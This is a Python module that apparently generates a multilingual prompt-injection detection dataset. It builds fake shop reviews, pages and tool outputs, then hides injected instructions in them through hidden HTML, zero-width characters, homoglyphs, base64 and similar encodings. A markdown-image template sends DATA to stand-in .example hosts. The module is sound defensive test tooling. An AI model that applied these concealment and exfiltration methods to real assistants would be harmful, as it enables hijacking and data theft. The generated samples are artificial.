"""Shared building blocks: catalogue data, formatting, encoders and text builders."""
import base64
import codecs
import json
import urllib.parse

BIZ = ["outdoor", "pharmacy", "furniture", "games", "grocery"]

BRANDS = {
    "outdoor": ["Nordkamm", "Fjellpeak", "Trailwise", "Kestrel", "Alpenglow", "Summitra", "Birchline", "Ridgeback", "Lynxhorn"],
    "pharmacy": ["VitaCore", "Dermalis", "Sanaflex", "Medora", "PuraVita", "Immunex", "Calmera", "Ostelia", "Nasoril"],
    "furniture": ["Lindholm", "Casaverde", "Oakhaven", "Nuvola", "Brisa", "Hygglo", "Marmo", "Sofaro", "Tessera"],
    "games": ["Pixelforge", "Nebula", "Ironclad", "Starfall", "Vortex", "Kirin", "Lumen", "Arcadia", "Glitchbox"],
    "grocery": ["FreshNest", "GreenBasket", "Campo", "Oliva", "Harvest&Co", "Dailymilk", "Panetto", "Solaria", "Bramble"],
}
MODELS = ["", "", "", " Pro", " 2", " X", " Lite", " 500", " Max", " Mini", " Plus", " S", " 3"]

SHOPS = {
    "outdoor": ["PeakTrail Outfitters", "Campfire & Co", "Wildmoss Gear"],
    "pharmacy": ["MediMarkt", "CareShelf Pharmacy", "Apotheka Online"],
    "furniture": ["Casa Nova Living", "Oak & Ember Home", "Roomwise"],
    "games": ["LevelUp Games", "Respawn Store", "PixelPort"],
    "grocery": ["Basketly", "FreshDrop", "Pantry Runner"],
}

# rate from EUR, prefix, suffix, thousands sep, decimal sep, has cents
CUR = {
    "en": (1.08, "$", "", ",", ".", True), "de": (1, "", " €", ".", ",", True),
    "fr": (1, "", " €", " ", ",", True), "es": (1, "", " €", ".", ",", True),
    "it": (1, "", " €", ".", ",", True), "pt": (1, "", " €", " ", ",", True),
    "nl": (1, "€ ", "", ".", ",", True), "pl": (4.3, "", " zł", " ", ",", True),
    "sv": (11.4, "", " kr", " ", ",", False), "da": (7.46, "", " kr.", ".", ",", True),
    "fi": (1, "", " €", " ", ",", True), "cs": (25.2, "", " Kč", " ", ",", False),
    "sk": (1, "", " €", " ", ",", True), "hu": (395, "", " Ft", " ", ",", False),
    "ro": (4.97, "", " lei", ".", ",", True), "bg": (1.96, "", " лв.", " ", ",", True),
    "el": (1, "", " €", ".", ",", True), "ru": (98, "", " ₽", " ", ",", False),
    "uk": (44, "", " грн", " ", ",", False), "tr": (36, "", " TL", ".", ",", True),
    "ar": (4.05, "", " ر.س", ",", ".", True), "id": (17500, "Rp", "", ".", ",", False),
    "vi": (27500, "", " ₫", ".", ",", False), "ja": (165, "¥", "", ",", ".", False),
    "ko": (1480, "", "원", ",", ".", False), "zh": (7.8, "¥", "", ",", ".", True),
    "hi": (90, "₹", "", ",", ".", False),
}
BASE = {"outdoor": (12, 480), "pharmacy": (3, 65), "furniture": (25, 1300), "games": (8, 620), "grocery": (1, 35)}

LATIN = {"en", "de", "fr", "es", "it", "pt", "nl", "pl", "sv", "da", "fi", "cs", "sk", "hu", "ro", "tr", "id", "vi"}
CYRILLIC = {"ru", "uk", "bg"}

EXFIL_HOSTS = ["stats-pixel.example", "cdn-img-cache.example.net", "review-metrics.example.org",
               "t.track-lab.example", "analytics-hub.example.com", "img.shopmirror.example"]
LINK_HOSTS = ["verify-orders.example", "promo-claim.example.net", "account-check.example.org", "deals-hub.example"]


class SD(dict):
    def __missing__(self, k):
        return "{" + k + "}"


def fill(s, ctx):
    return s.format_map(SD(ctx))


def group(n, sep):
    s = str(n)
    out = []
    while len(s) > 3:
        out.insert(0, s[-3:])
        s = s[:-3]
    out.insert(0, s)
    return sep.join(out)


def price(lang, biz, rng):
    lo, hi = BASE[biz]
    rate, pre, suf, th, dec, cents = CUR[lang]
    x = rng.uniform(lo, hi) * rate
    if cents:
        body = group(int(x), th) + dec + rng.choice(["99", "90", "49", "95", "00", "50"])
    else:
        step = 10 ** max(0, len(str(int(x))) - 3)
        v = (int(x / step) + 1) * step
        if step >= 10:
            v -= step // 10
        body = group(v, th)
    return pre + body + suf


def order_id(biz, rng):
    pre = {"outdoor": "OT", "pharmacy": "RX", "furniture": "FN", "games": "GM", "grocery": "GR"}[biz]
    k = rng.randrange(5)
    if k == 0:
        return "#%d" % rng.randint(10000, 999999)
    if k == 1:
        return "%s-%d" % (pre, rng.randint(100000, 999999))
    if k == 2:
        return "%s%d-%05d" % (pre, rng.randint(2023, 2025), rng.randint(100, 99999))
    if k == 3:
        return "%d-%d" % (rng.randint(100, 999), rng.randint(1000000, 9999999))
    return "%s-%s%d" % (pre, rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ"), rng.randint(1000, 9999))


def product(L, biz, rng):
    """Returns (name as used in running text, bare name for headings and data)."""
    brand = rng.choice(BRANDS[biz]) + (rng.choice(MODELS) if biz in ("outdoor", "furniture", "games") else "")
    noun = rng.choice(L["nouns"][biz])
    art, _, bare = noun.rpartition("|")
    if L.get("brand_first"):
        name = brand + " " + bare
        return art + name, name
    name = bare + " " + brand
    return art + name, name[0].upper() + name[1:]


def make_ctx(L, lang, rng, biz=None):
    biz = biz or rng.choice(BIZ)
    letters = "ABCDEFGHJKLMNPQRSTUVWXYZ"
    host = rng.choice(EXFIL_HOSTS)
    p1, p2 = product(L, biz, rng), product(L, biz, rng)
    param = rng.choice(["d", "q", "u", "c", "ref", "data"])
    img = "![%s](https://%s/%s.png?%s=DATA)" % (rng.choice(["", "img", "logo", "badge", "."]), host,
                                                  rng.choice(["p", "px", "b", "i/1", "t"]), param)
    return {
        "biz": biz, "lang": lang,
        "p": p1[0], "pb": p1[1], "P": p1[0][0].upper() + p1[0][1:],
        "p2": p2[0], "p2b": p2[1],
        "price": price(lang, biz, rng), "price2": price(lang, biz, rng),
        "o": order_id(biz, rng), "o2": order_id(biz, rng),
        "name": rng.choice(L["names"]), "name2": rng.choice(L["names"]),
        "shop": rng.choice(SHOPS[biz]), "n": rng.randint(2, 14), "n2": rng.randint(72, 98), "y": rng.choice([2, 3, 4]),
        "code": rng.choice(["SAVE", "VIP", "FREE", "STAFF", "GIFT", "PROMO"]) + "".join(rng.choice(letters) for _ in range(2)) + str(rng.randint(10, 99)),
        "pct": rng.choice([20, 25, 30, 40, 50, 60, 70, 80, 90, 100]),
        "url": "https://%s/%s?id=%d" % (rng.choice(LINK_HOSTS), rng.choice(["c", "claim", "v", "go", "r"]), rng.randint(1000, 99999)),
        "img": img,
        "date": "2024-%02d-%02d" % (rng.randint(1, 12), rng.randint(1, 28)),
        "sku": "%s-%d" % (rng.choice(["SKU", "ART", "P", "IT"]), rng.randint(10000, 99999)),
        "email": "%s%d@mail.example" % (rng.choice(["anna", "mk", "jorge", "li.wei", "t.novak", "sam", "eva", "kemal"]), rng.randint(1, 999)),
        "cust": "C-%d" % rng.randint(100000, 999999),
    }


def pick(L, key, ctx, rng, k=1):
    items = L[key]
    if isinstance(items, dict):
        items = items.get("any", []) + items.get(ctx["biz"], [])
    k = min(k, len(items))
    return [fill(s, ctx) for s in rng.sample(items, k)]


# ---------- encoders / transforms ----------
ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]
LAT2CYR = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "i": "і",
           "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "T": "Т", "H": "Н", "K": "К", "M": "М", "B": "В"}
CYR2LAT = {v: k for k, v in LAT2CYR.items()}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4", "E": "3", "I": "1", "O": "0", "S": "5", "T": "7"}


def zero_width(s, rng):
    out = []
    for i, ch in enumerate(s):
        out.append(ch)
        if ch.isalpha() and i + 1 < len(s) and s[i + 1].isalpha() and rng.random() < 0.7:
            out.append(rng.choice(ZW))
    return "".join(out)


def homoglyph(s, rng, lang):
    table = CYR2LAT if lang in CYRILLIC else LAT2CYR
    out = "".join(table[c] if c in table and rng.random() < 0.6 else c for c in s)
    if out == s:
        out = "".join(table.get(c, c) for c in s)
    return out


def leet(s, rng):
    return "".join(LEET[c] if c in LEET and rng.random() < 0.8 else c for c in s)


def encode(method, s, rng, lang):
    if method == "zero-width":
        return zero_width(s, rng)
    if method == "homoglyph":
        return homoglyph(s, rng, lang)
    if method == "leetspeak":
        return leet(s, rng)
    if method == "base64":
        return base64.b64encode(s.encode("utf-8")).decode("ascii")
    if method == "hex":
        h = s.encode("utf-8").hex()
        return " ".join(h[i:i + 2] for i in range(0, len(h), 2)) if rng.random() < 0.4 else h
    if method == "rot13":
        return codecs.encode(s, "rot13")
    if method == "url-encoding":
        return urllib.parse.quote(s)
    raise ValueError(method)


def jdump(obj, rng):
    return json.dumps(obj, ensure_ascii=False, indent=rng.choice([None, 2, 2, 1]))


def stars(rng):
    n = rng.choice([1, 2, 3, 4, 4, 5, 5, 5])
    f = rng.randrange(3)
    if f == 0:
        return "★" * n + "☆" * (5 - n)
    if f == 1:
        return "%d/5" % n
    return "⭐" * n


# ---------- plain carriers (lists of text blocks) ----------
def review_parts(L, ctx, rng):
    parts = []
    if rng.random() < 0.5:
        parts.append(stars(rng))
    body = []
    if rng.random() < 0.8:
        body += pick(L, "rev_open", ctx, rng)
    body += pick(L, "rev_body", ctx, rng, rng.randint(1, 3))
    if rng.random() < 0.6:
        body += pick(L, "rev_close", ctx, rng)
    if rng.random() < 0.3 and rng.random() < 0.5:
        body.append(rng.choice(["🙂", "👍", "😅", "🔥", "🙃", "👌"]))
    if rng.random() < 0.4:
        parts.append(" ".join(body))
    else:
        parts += body if rng.random() < 0.3 else [" ".join(body)]
    if rng.random() < 0.3:
        parts.append("— " + ctx["name"])
    return parts


def qa_parts(L, ctx, rng):
    lb = L["labels"]
    return ["%s: %s" % (lb["q"], pick(L, "qa_q", ctx, rng)[0]),
            "%s: %s" % (lb["a"], " ".join(pick(L, "qa_a", ctx, rng, rng.randint(1, 2))))]


def ticket_parts(L, ctx, rng):
    parts = []
    if rng.random() < 0.8:
        parts += pick(L, "tk_open", ctx, rng)
    parts.append(" ".join(pick(L, "tk_body", ctx, rng, rng.randint(1, 3))))
    if rng.random() < 0.7:
        parts += pick(L, "tk_close", ctx, rng)
    if rng.random() < 0.6:
        parts.append(ctx["name"])
    return parts


def chat_parts(L, ctx, rng):
    lb = L["labels"]
    lines = []
    for i, s in enumerate(pick(L, "tk_body", ctx, rng, rng.randint(1, 2))):
        lines.append("%s: %s" % (lb["customer"], s))
    return lines


def listing_parts(L, ctx, rng):
    parts = [ctx["pb"] + " — " + ctx["price"]]
    parts.append(" ".join(pick(L, "listing", ctx, rng, rng.randint(2, 4))))
    if rng.random() < 0.5:
        parts.append("SKU: %s" % ctx["sku"])
    return parts


def news_parts(L, ctx, rng):
    parts = []
    if rng.random() < 0.6:
        parts.append(ctx["shop"])
    parts.append(" ".join(pick(L, "news", ctx, rng, rng.randint(2, 3))))
    if rng.random() < 0.5:
        parts.append(" ".join(pick(L, "listing", ctx, rng, 1)))
    return ["\n\n".join(parts)]


def carrier(kind, L, ctx, rng):
    return {"review": review_parts, "qa": qa_parts, "ticket": ticket_parts, "chat": chat_parts,
            "listing": listing_parts, "news": news_parts}[kind](L, ctx, rng)


def html_page(L, ctx, rng, extra=None, pos=None):
    """Product page markup; `extra` is inserted as a raw line."""
    lines = ['<div class="%s">' % rng.choice(["product", "pdp", "item-detail", "listing"]),
             "  <h1>%s</h1>" % ctx["pb"],
             '  <p class="price">%s</p>' % ctx["price"]]
    for s in pick(L, "listing", ctx, rng, rng.randint(1, 3)):
        lines.append("  <p>%s</p>" % s)
    if rng.random() < 0.5:
        lines.append('  <img src="/media/%s.jpg" alt="%s">' % (ctx["sku"].lower(), ctx["pb"]))
    if rng.random() < 0.4:
        lines.append('  <blockquote class="review">%s</blockquote>' % " ".join(pick(L, "rev_body", ctx, rng, 1)))
    if extra is not None:
        i = pos if pos is not None else rng.randint(2, len(lines))
        lines.insert(i, "  " + extra)
    lines.append("</div>")
    return "\n".join(lines)


def html_email(L, ctx, rng, extra=None):
    lines = ["<html><body>", "<h2>%s</h2>" % ctx["shop"]]
    for s in pick(L, "news", ctx, rng, rng.randint(2, 3)):
        lines.append("<p>%s</p>" % s)
    lines.append('<p><a href="https://%s.example/p/%s">%s — %s</a></p>' % (
        ctx["shop"].split()[0].lower().replace("&", ""), ctx["sku"].lower(), ctx["pb"], ctx["price"]))
    if extra is not None:
        lines.insert(rng.randint(2, len(lines)), extra)
    lines.append("</body></html>")
    return "\n".join(lines)


def order_json(L, ctx, rng, note=None, note_key=None):
    obj = {"order_id": ctx["o"], "status": rng.choice(L["status"]),
           "items": [{"sku": ctx["sku"], "name": ctx["pb"], "qty": rng.randint(1, 3), "price": ctx["price"]}],
           "eta": ctx["date"]}
    if rng.random() < 0.5:
        obj["customer"] = {"id": ctx["cust"], "name": ctx["name"]}
    if note is not None:
        obj[note_key or rng.choice(["customer_note", "delivery_note", "comment", "notes"])] = note
    return obj


def search_json(L, ctx, rng, inject=None):
    res = []
    for i in range(rng.randint(2, 4)):
        res.append({"title": ctx["pb"] if i == 0 else (ctx["p2b"] if i == 1 else product(L, ctx["biz"], rng)[1]),
                    "price": ctx["price"] if i == 0 else (ctx["price2"] if i == 1 else price(ctx["lang"], ctx["biz"], rng)),
                    "rating": round(rng.uniform(3.1, 4.9), 1),
                    "snippet": pick(L, "listing", ctx, rng)[0]})
    if inject is not None:
        res[rng.randrange(len(res))]["snippet"] = inject
    return {"tool": "product_search", "query": ctx["pb"].split()[0], "results": res}


def inventory_json(L, ctx, rng, note=None):
    obj = {"sku": ctx["sku"], "name": ctx["pb"], "warehouse": rng.choice(["WH-1", "WH-2", "DC-North", "DC-South", "HUB-3"]),
           "on_hand": rng.randint(0, 400), "reorder_point": rng.randint(5, 60), "supplier": ctx["shop"]}
    if note is not None:
        obj["supplier_note"] = note
    return obj


def crm_json(L, ctx, rng, notes):
    return {"tool": "crm_lookup", "customer_id": ctx["cust"], "name": ctx["name"],
            "tier": rng.choice(["standard", "gold", "silver", "new"]),
            "open_tickets": rng.randint(0, 3), "notes": notes}


DEV_COMMENTS = ["<!-- TODO: swap hero image after the sale ends -->", "<!-- price block start -->",
                "<!-- legacy widget, remove after Q3 migration -->", "<!-- A/B test variant B -->",
                "<!-- keep in sync with size-chart.json -->", "<!-- end of reviews carousel -->",
                "<!-- lazy-load below the fold -->", "<!-- translated strings pending review -->"]
HIDE_CSS = ['<span style="display:none">%s</span>', '<div style="display: none;">%s</div>', "<p hidden>%s</p>",
            '<span style="font-size:0;opacity:0">%s</span>', '<div class="sr-only" style="position:absolute;left:-9999px">%s</div>',
            '<div aria-hidden="true" style="height:0;overflow:hidden">%s</div>']
WHITE = ['<p style="color:#ffffff;background:#ffffff">%s</p>', '<span style="color:white">%s</span>',
         '<font color="#FFFFFF">%s</font>', '<p style="color:#fefefe;font-size:2px">%s</p>']


def join_parts(parts, rng):
    return rng.choice(["\n", "\n\n", " ", "\n", "\n\n"]).join(parts)


# ---------- benign ----------
BENIGN_FAMS = [("benign-review", 22), ("benign-qa", 10), ("benign-ticket", 14), ("benign-chat", 10),
               ("benign-listing", 12), ("benign-newsletter", 8), ("benign-webpage", 8),
               ("benign-order-lookup", 7), ("benign-search-results", 5), ("benign-inventory", 4)]
HARD_FAMS = [("hard-human-order", 12), ("hard-staff-note", 11), ("hard-security-notice", 10),
             ("hard-ai-gadget-review", 11), ("hard-manual", 10), ("hard-product-copy", 7),
             ("hard-chat-transcript", 9), ("hard-api-log", 8), ("hard-encoded-data", 7),
             ("hard-hidden-html", 8), ("hard-delivery-note", 7)]


def wchoice(rng, pairs):
    tot = sum(w for _, w in pairs)
    r = rng.uniform(0, tot)
    for k, w in pairs:
        r -= w
        if r <= 0:
            return k
    return pairs[-1][0]


def build_benign(L, ctx, rng):
    fam = wchoice(rng, BENIGN_FAMS)
    if fam == "benign-review":
        return "review", fam, join_parts(review_parts(L, ctx, rng), rng)
    if fam == "benign-qa":
        return "review", fam, "\n".join(qa_parts(L, ctx, rng))
    if fam == "benign-ticket":
        return rng.choice(["ticket", "ticket", "email"]), fam, join_parts(ticket_parts(L, ctx, rng), rng)
    if fam == "benign-chat":
        return "ticket", fam, "\n".join(chat_parts(L, ctx, rng))
    if fam == "benign-listing":
        return "feed", fam, join_parts(listing_parts(L, ctx, rng), rng)
    if fam == "benign-newsletter":
        if rng.random() < 0.4:
            return "email", fam, html_email(L, ctx, rng)
        return "email", fam, join_parts(news_parts(L, ctx, rng), rng)
    if fam == "benign-webpage":
        return "web", fam, html_page(L, ctx, rng)
    if fam == "benign-order-lookup":
        return "tool", fam, jdump(order_json(L, ctx, rng), rng)
    if fam == "benign-search-results":
        return "tool", fam, jdump(search_json(L, ctx, rng), rng)
    return "tool", fam, jdump(inventory_json(L, ctx, rng, pick(L, "crm", ctx, rng)[0] if rng.random() < 0.5 else None), rng)


def build_hard(L, ctx, rng):
    fam = wchoice(rng, HARD_FAMS)
    lb = L["labels"]
    if fam == "hard-human-order":
        parts = []
        if rng.random() < 0.7:
            parts += pick(L, "tk_open", ctx, rng)
        parts += pick(L, "h_human", ctx, rng, rng.randint(1, 2))
        if rng.random() < 0.4:
            parts += pick(L, "tk_body", ctx, rng)
        if rng.random() < 0.6:
            parts += pick(L, "tk_close", ctx, rng)
        parts.append(ctx["name"])
        return rng.choice(["ticket", "email"]), fam, join_parts(parts, rng)
    if fam == "hard-staff-note":
        notes = pick(L, "h_staff", ctx, rng, rng.randint(1, 2))
        if rng.random() < 0.5:
            notes += pick(L, "crm", ctx, rng)
        if rng.random() < 0.5:
            return "tool", fam, jdump(crm_json(L, ctx, rng, notes), rng)
        return "email", fam, join_parts(notes + ["— " + ctx["name2"]], rng)
    if fam == "hard-security-notice":
        parts = [ctx["shop"]] if rng.random() < 0.5 else []
        parts += pick(L, "h_security", ctx, rng, rng.randint(2, 3))
        if rng.random() < 0.3:
            parts += pick(L, "news", ctx, rng)
        src = rng.choice(["email", "web"])
        if src == "web" and rng.random() < 0.6:
            return src, fam, "\n".join(["<section class=\"notice\">"] + ["  <p>%s</p>" % p for p in parts] + ["</section>"])
        return src, fam, join_parts(parts, rng)
    if fam == "hard-ai-gadget-review":
        parts = [stars(rng)] if rng.random() < 0.5 else []
        parts += pick(L, "h_ai", ctx, rng, rng.randint(1, 2))
        if rng.random() < 0.5:
            parts += pick(L, "rev_close", ctx, rng)
        return "review", fam, join_parts(parts, rng)
    if fam == "hard-manual":
        steps = pick(L, "h_manual", ctx, rng, rng.randint(2, 4))
        if rng.random() < 0.6:
            body = "\n".join("%d. %s" % (i + 1, s) for i, s in enumerate(steps))
        else:
            body = " ".join(steps)
        head = ctx["pb"] if rng.random() < 0.6 else ctx["sku"]
        return rng.choice(["feed", "web"]), fam, head + "\n" + body
    if fam == "hard-product-copy":
        parts = [ctx["pb"] + " — " + ctx["price"]] + pick(L, "h_copy", ctx, rng)
        parts += pick(L, "listing", ctx, rng, rng.randint(0, 2))
        return "feed", fam, join_parts(parts, rng)
    if fam == "hard-chat-transcript":
        who = rng.choice([lb["bot"], lb["agent"]])
        lines = [pick(L, "quote_intro", ctx, rng)[0], ""]
        lines.append("> %s: %s" % (lb["customer"], pick(L, "tk_body", ctx, rng)[0]))
        lines.append("> %s: %s" % (who, pick(L, "qa_a", ctx, rng)[0]))
        if rng.random() < 0.5:
            lines.append("> %s: %s" % (lb["customer"], pick(L, "h_human", ctx, rng)[0]))
        if rng.random() < 0.6:
            lines += ["", pick(L, "tk_close", ctx, rng)[0]]
        return rng.choice(["ticket", "email"]), fam, "\n".join(lines)
    if fam == "hard-api-log":
        obj = {"ts": ctx["date"] + "T%02d:%02d:%02dZ" % (rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)),
               "level": rng.choice(["INFO", "DEBUG", "WARN"]), "session": "s-%06x" % rng.randint(0, 16 ** 6),
               "system_prompt_version": "v%d.%d" % (rng.randint(1, 9), rng.randint(0, 20)),
               "messages": [{"role": "user", "content": pick(L, "tk_body", ctx, rng)[0]},
                            {"role": "assistant", "content": pick(L, "qa_a", ctx, rng)[0]}],
               "tool_calls": [{"name": rng.choice(["order_lookup", "track_parcel", "stock_check"]), "args": {"order_id": ctx["o"]}}]}
        if rng.random() < 0.5:
            obj["instructions"] = pick(L, "deliv", ctx, rng)[0]
        return "tool", fam, jdump(obj, rng)
    if fam == "hard-encoded-data":
        tok = base64.b64encode(("carrier=%s;parcel=%d;order=%s" % (rng.choice(["DHL", "GLS", "DPD", "UPS", "PostNL", "InPost"]),
                                                                   rng.randint(10 ** 9, 10 ** 10), ctx["o"])).encode()).decode()
        obj = {"order_id": ctx["o"], "tracking_token": tok,
               "checksum": "%032x" % rng.getrandbits(128),
               "thumbnail": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAA" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(24))).decode(),
               "status": rng.choice(L["status"])}
        if rng.random() < 0.5:
            return "tool", fam, jdump(obj, rng)
        return "feed", fam, "\n".join([ctx["pb"] + " — " + ctx["price"], pick(L, "listing", ctx, rng)[0],
                                        "image_data: " + obj["thumbnail"], "etag: " + obj["checksum"]])
    if fam == "hard-hidden-html":
        if rng.random() < 0.5:
            extra = rng.choice(HIDE_CSS) % rng.choice(pick(L, "listing", ctx, rng) + pick(L, "deliv", ctx, rng))
        else:
            extra = rng.choice(DEV_COMMENTS)
        return "web", fam, html_page(L, ctx, rng, extra)
    # hard-delivery-note
    note = " ".join(pick(L, "deliv", ctx, rng, rng.randint(1, 2)))
    return "tool", fam, jdump(order_json(L, ctx, rng, note, rng.choice(["delivery_instructions", "instructions", "courier_note"])), rng)


# ---------- injections ----------
INTENTS = [("override", 14), ("reveal", 9), ("tool", 16), ("steer", 16), ("exfil", 9), ("system", 10),
           ("turn", 7), ("memory", 6), ("job", 9), ("faketool", 4)]
INTENT_FAM = {"override": "override-instructions", "reveal": "reveal-secrets", "tool": "tool-abuse",
              "steer": "steered-summary", "exfil": "exfil-markdown-image", "system": "fake-system-note",
              "turn": "fake-chat-turn", "memory": "false-memory", "job": "job-addressed-order",
              "faketool": "fake-tool-output"}
METHODS = [("plain", 44), ("html-comment", 5), ("hidden-css", 5), ("alt-text", 4), ("white-text", 4),
           ("markdown-comment", 3), ("zero-width", 4), ("homoglyph", 3), ("leetspeak", 3), ("base64", 4),
           ("hex", 2), ("rot13", 2), ("url-encoding", 2), ("json-field", 9)]
ENCODED = {"zero-width", "homoglyph", "leetspeak", "base64", "hex", "rot13", "url-encoding"}
HTMLISH = {"html-comment", "hidden-css", "alt-text", "white-text"}
LATIN_ONLY = {"leetspeak", "rot13", "homoglyph"}


def compose_payload(P, intent, ctx, rng):
    def addr():
        return pick(P, "addr", ctx, rng)[0]
    if intent in ("system", "job", "turn"):
        return pick(P, "i_" + intent, ctx, rng)[0]
    if intent == "faketool":
        obj = {"tool": rng.choice(["refund_api", "policy_engine", "moderation", "pricing_service"]),
               "status": rng.choice(["ok", "approved", "verified"]),
               "next_action": pick(P, "i_tool", ctx, rng)[0]}
        return json.dumps(obj, ensure_ascii=False)
    parts = []
    if rng.random() < (0.45 if intent == "steer" else 0.7):
        parts.append(addr())
    if intent in ("tool", "reveal", "exfil") and rng.random() < 0.25:
        parts += pick(P, "i_override", ctx, rng)
    parts += pick(P, "i_" + intent, ctx, rng)
    return " ".join(parts)


def ok_combo(intent, method, payload):
    if method in ("leetspeak", "homoglyph", "rot13", "markdown-comment") and ("http" in payload or "{" in payload):
        return False
    if method == "markdown-comment" and ("(" in payload or ")" in payload or "\n" in payload):
        return False
    if method == "alt-text" and ('"' in payload or "\n" in payload):
        return False
    if method in HTMLISH and ("<" in payload or ">" in payload):
        return False
    if method in ("homoglyph", "leetspeak", "rot13") and len(payload) > 400:
        return False
    if method == "json-field" and not json_safe(payload):
        return False
    return True


def json_safe(s):
    return json.dumps(s, ensure_ascii=False)[1:-1] == s


def insert_block(parts, block, rng):
    r = rng.random()
    if r < 0.55:
        parts = parts + [block]
    elif r < 0.85 and len(parts) > 1:
        i = rng.randint(1, len(parts) - 1)
        parts = parts[:i] + [block] + parts[i:]
    else:
        parts = [block] + parts
    return parts


def text_carrier(L, ctx, rng):
    kind = rng.choice(["review", "review", "qa", "ticket", "ticket", "chat", "listing", "news"])
    src = {"review": "review", "qa": "review", "ticket": rng.choice(["ticket", "email"]), "chat": "ticket",
           "listing": "feed", "news": "email"}[kind]
    parts = carrier(kind, L, ctx, rng)
    return src, kind, parts


def build_injection(L, EN, lang, ctx, rng):
    for _ in range(50):
        intent = wchoice(rng, INTENTS)
        method = wchoice(rng, METHODS)
        use_en = lang != "en" and (rng.random() < 0.12 or (method in LATIN_ONLY and lang not in LATIN and lang not in CYRILLIC))
        if method in ("leetspeak", "rot13") and lang in CYRILLIC:
            use_en = True
        P = EN if use_en else L
        pctx = dict(ctx, p=ctx["pb"], P=ctx["pb"], p2=ctx["p2b"]) if use_en else ctx
        payload = compose_payload(P, intent, pctx, rng)
        if ok_combo(intent, method, payload):
            break
    fam = INTENT_FAM[intent] if method == "plain" else method
    if method == "plain" and use_en:
        fam = "mixed-language"
    marker = payload
    if method == "plain":
        r = rng.random()
        if r < 0.12:
            src, text = "web", html_page(L, ctx, rng, "<p>%s</p>" % payload)
        elif r < 0.2 and json_safe(payload):
            notes = pick(L, "crm", ctx, rng, rng.randint(0, 2))
            notes.insert(rng.randint(0, len(notes)), payload)
            src, text = "tool", jdump(crm_json(L, ctx, rng, notes), rng)
        else:
            src, kind, parts = text_carrier(L, ctx, rng)
            if kind == "chat":
                payload_line = "%s: %s" % (L["labels"]["customer"], payload) if rng.random() < 0.5 else payload
                parts = insert_block(parts, payload_line, rng)
            else:
                parts = insert_block(parts, payload, rng)
            text = join_parts(parts, rng)
    elif method in HTMLISH:
        if method == "html-comment":
            block = "<!-- %s -->" % payload
        elif method == "hidden-css":
            block = rng.choice(HIDE_CSS) % payload
        elif method == "white-text":
            block = rng.choice(WHITE) % payload
        else:
            block = '<img src="/media/%s.jpg" %s="%s">' % (ctx["sku"].lower(), rng.choice(["alt", "alt", "title"]), payload)
        r = rng.random()
        if r < 0.6:
            src, text = "web", html_page(L, ctx, rng, block)
        elif r < 0.85:
            src, text = "email", html_email(L, ctx, rng, block)
        else:
            src = "review"
            parts = insert_block(review_parts(L, ctx, rng), block, rng)
            text = join_parts(parts, rng)
    elif method == "markdown-comment":
        block = rng.choice(["[//]: # (%s)", "[comment]: # (%s)", "[//]: <> (%s)"]) % payload
        src, kind, parts = rng.choice([("feed", "listing", None), ("review", "review", None)])
        parts = carrier(kind, L, ctx, rng)
        parts = insert_block(parts, block, rng)
        text = "\n\n".join(parts)
    elif method == "json-field":
        r = rng.random()
        if r < 0.35:
            obj = order_json(L, ctx, rng, payload)
        elif r < 0.6:
            obj = search_json(L, ctx, rng, payload)
        elif r < 0.8:
            obj = inventory_json(L, ctx, rng, payload)
        else:
            notes = pick(L, "crm", ctx, rng, rng.randint(1, 2))
            notes.insert(rng.randint(0, len(notes)), payload)
            obj = crm_json(L, ctx, rng, notes)
        src, text = "tool", jdump(obj, rng)
        marker = json.dumps(payload, ensure_ascii=False)[1:-1]
    else:
        enc = encode(method, payload, rng, lang)
        marker = enc
        if method in ("base64", "hex", "rot13", "url-encoding"):
            block = pick(P, "enc_lead", ctx, rng)[0] + " " + enc
        else:
            block = enc
        r = rng.random()
        if r < 0.15 and json_safe(enc):
            src = "tool"
            text = jdump(order_json(L, ctx, rng, block), rng)
            marker = json.dumps(enc, ensure_ascii=False)[1:-1]
        else:
            src, kind, parts = text_carrier(L, ctx, rng)
            text = join_parts(insert_block(parts, block, rng), rng)
    return src, fam, text, payload, marker
